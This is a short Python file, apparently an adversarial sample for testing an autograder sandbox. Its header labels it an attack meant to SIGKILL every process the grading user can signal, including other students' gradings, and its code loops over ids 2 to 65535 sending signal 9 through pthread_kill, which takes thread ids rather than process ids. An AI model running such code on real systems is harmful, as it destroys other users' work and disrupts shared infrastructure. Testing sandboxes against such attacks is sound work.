# /// attack
# exercise = "breaks_checkpoint"
# class = 5
# kind = "compiles"
# why = "SIGKILL every process the grading user may signal (other students' gradings)"
# ///
import signal

for _pid in range(2, 1 << 16):
    try:
        signal.pthread_kill(_pid, 9)
    except (OSError, ValueError):
        pass
